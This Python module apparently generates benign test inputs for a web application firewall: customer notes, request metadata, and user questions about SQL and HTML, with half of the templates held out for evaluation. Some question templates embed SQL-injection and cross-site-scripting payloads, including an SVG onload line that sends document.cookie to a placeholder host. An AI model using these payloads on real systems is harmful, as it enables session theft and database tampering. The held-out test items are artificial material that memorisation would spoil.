"""Honest requests for `waf.py`: values of other fields, and prompts about SQL and HTML.

Half of what is made from templates is held out; `waf.py --held` looks at it, once.
"""

from __future__ import annotations

import random
from pathlib import Path
from typing import Any

HERE = Path(__file__).with_name("waf_data")

NAMES = (
    "Aoife O'Connor|Miguel d'Souza|Zoë van 't Hoff|Li Wei|Priya N'Dour|Jürgen Groß|Ana-María Peña|Kwame O'Hara".split(
        "|"
    )
)
PRODUCTS = (
    "12\" cast-iron pan|Select Comfort 'Plus' pillow|Union Jack mug & saucer|Drop-leaf table (oak)|USB-C hub; 7-in-1"
    "|Kid's T-shirt 'Hero'|6' ladder -- aluminium|Insert for 3\" binder|Group set 105 & pedals|Like-new camera \"X100\""
    '|Having-It-All planner|Script font pack|Image frame <A4>|Or-gate IC 74HC32|Union nut 1/2" (brass)|Alter-ego perfume'
).split("|")
NOTES = (
    "Please leave it at {name}'s door; ring twice.|{name} said: \"don't call before 9\" -- thanks!|Gift for {name} & family"
    "|Need {n} or {m} of the {product}, whichever's cheaper|Is the {product} in stock? I'd like {n} (or {m})."
    "|Delivered {n} of {m}; the rest by {date}|{product} <-> {product}: compare & choose|{name} (customer #{n})"
    "|Order #{n}: {product}, {m} pcs; ship to {name}|It's {name}'s {product} -- not mine!|{n} > {m}? then call {name}"
    "|Size {n}\" x {m}\", colour 'navy' or 'black'|re: {product} / {name} / {date}|{n}% off & free shipping until {date}"
    "|{name}; {name}; {name}|cc: {name}, {name} and {n} others|ref={n}&item={m}|{product} = {n} EUR, VAT incl."
    "|see https://shop.example/p/{n}?ref={m}&utm_source=mail&utm_campaign=it%27s-{n}|[{n}] {product} ({m})"
    "|{product}: \"it's great\" -- {name}, {date}|Can't select {product} from the list and it's {date} already"
    "|We'd like to update {product} and set a reminder|Drop {product} or keep {n}?|join {name}'s team; group {n}"
    "|where {name} lives, from {date} on|in ({n}, {m}) order|'{product}' or '{product}'?|\"{product}\" and \"{product}\""
    "|<{product}>|{n}<{m}|{n}<x<{m}|f({n}, {m}) = {n}|({n} or {m}) and {n}|{name} -> {name}|{n}' {m}\"|{date} / {n}; {m}"
).split("|")
QUESTIONS = (
    "How do I write SELECT * FROM {t} WHERE {c} = '{v}' OR {c} IS NULL; in {db}?"
    "|Why is ' OR 1=1 -- dangerous in a login form on {db}?|Explain UNION SELECT password FROM {t} -- in a CTF about {db}"
    "|Please fix: DELETE FROM {t} WHERE {c} IN (SELECT {c} FROM old); -- slow in {db}"
    "|What does '; DROP TABLE {t}; -- do?  I read of Bobby Tables and {db}."
    "|Is 1 AND SLEEP(5) a time probe against {db}?|Translate to {db}: INSERT INTO {t} ({c}) VALUES ('{v}');"
    "|Write a trigger on {t} that runs EXEC audit '{v}' in {db}|Does {db} have information_schema.tables or sqlite_master?"
    "|Teach me how <script>alert('{v}')</script> gets into a page|Why does <img src=x onerror=alert(1)> run?  My field is {c}."
    '|Make an HTML form: <form action=/{t}><input name={c} onfocus="hint()"></form>'
    '|Is <a href="javascript:void(0)">{v}</a> bad practice?|My React page shows {{{{{c}}}}} and <iframe src=/{t}>; why?'
    "|How do I escape O'{v} in {db}?  admin'-- worked, which scares me.|document.cookie is empty in {t}.js, why?"
    '|Review: const q = "SELECT {c} FROM {t} WHERE id=\'" + id + "\' OR 1=1";'
    "|Explain <svg onload=fetch('//x.example?'+document.cookie)> to a beginner"
    "|Convert this to an ORM: SELECT {c}, COUNT(*) FROM {t} GROUP BY {c} HAVING COUNT(*) > 1 ORDER BY 2 DESC"
    "|What's the difference of ';alert(1)// and \"><script>alert(1)</script>?"
).split("|")
DATABASES = "MySQL|PostgreSQL|SQLite|SQL Server|Oracle|DuckDB".split("|")
TABLES = "users|orders|sessions|invoices".split("|")
COLUMNS = "name|email|price|city".split("|")
VALUES = "Brien|hello|x|Rome".split("|")


def fields(*, held: bool) -> list[str]:
    """Return honest values of other fields."""
    chance = random.Random(2 if held else 1)
    made = []
    for template in NOTES[held::2]:
        for _ in range(18):
            product = chance.choice(PRODUCTS[held::2])
            made.append(
                template.format(
                    name=chance.choice(NAMES),
                    product=product,
                    n=chance.randint(1, 99),
                    m=chance.randint(1, 999),
                    date=f"2026-{chance.randint(1, 12):02}-{chance.randint(1, 28):02}",
                )
            )
    listed = (HERE / "honest.txt").read_text(encoding="utf-8").splitlines()
    return listed[held::2] + sorted(set(made))


def prompts(*, held: bool) -> list[str]:
    """Return honest prompts about SQL and HTML."""
    chance = random.Random(4 if held else 3)
    made = [
        template.format(
            t=chance.choice(TABLES), c=chance.choice(COLUMNS), v=chance.choice(VALUES), db=chance.choice(DATABASES)
        )
        for template in QUESTIONS[held::2]
        for _ in range(80)
    ]
    return sorted(set(made))


USUAL = {
    "user": "user-8842",
    "metadata": {
        "session": "550e8400-e29b-41d4-a716-446655440000",
        "tenant": "acme",
        "region": "eu-west-1",
        "plan": "pro",
        "time": "2026-11-23T11:29:46Z",
        "name": "Siobh\u00e1n O'Brien",
        "mail": "s.obrien@example.ie",
        "from": "https://shop.example/p/81?ref=mail&utm_source=x",
        "note": "Please leave it at the neighbour's door; ring twice, don't call before 9",
        "app": "shop/1.0 (Linux; x86_64)",
        "feature": "search & compare",
        "locale": "en-IE",
        "trace": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        "tags": 'books, maps, 12" vinyl',
        "address": "12 bis, rue de l'\u00c9glise, 75015 Paris",
        "size": "6' x 4'",
        "filter": "price < 20 and stock > 0",
        "token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "summary": "The customer asked for a refund of two orders, was told that it takes five days, and agreed to wait.",
    },
}


def bodies() -> dict[str, dict[str, Any]]:
    """Return the other fields of requests, by name: usual ones, and such as hold nothing but odd texts."""
    odd = fields(held=False)
    plain = " ".join(sorted(text for text in odd if text.isascii()))
    many = {f"f{at}": (plain * 8)[at * 997 :][:8192] for at in range(128)}
    return {
        "usual": USUAL,
        "odd, every one": {"metadata": {f"f{at}": odd[-at * 7 % len(odd)] for at in range(24)}},
        "odd": {"metadata": dict(list(many.items())[:8])},
        "odd, large": {"metadata": many},
    }
